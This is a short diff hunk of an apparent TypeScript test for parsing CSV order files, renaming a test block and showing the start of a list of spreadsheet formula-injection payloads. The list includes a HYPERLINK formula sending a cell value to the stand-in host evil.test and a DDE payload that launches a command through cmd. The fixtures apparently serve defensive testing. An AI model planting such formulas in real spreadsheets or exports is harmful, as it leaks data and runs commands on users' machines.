@@ -55,7 +55,7 @@ function parseCsv(text: string): string[][] {
 const columnOf = (lines: string[][], heading: string) =>
   lines.slice(1).map((line) => line[lines[0]?.indexOf(heading) ?? -1]);
 
-describe('case 44: a CSV of orders', () => {
+describe('a CSV of orders', () => {
   const FORMULAS = [
     '=HYPERLINK("https://evil.test?"&A1)',
     "+1+cmd|' /C calc'!A0",
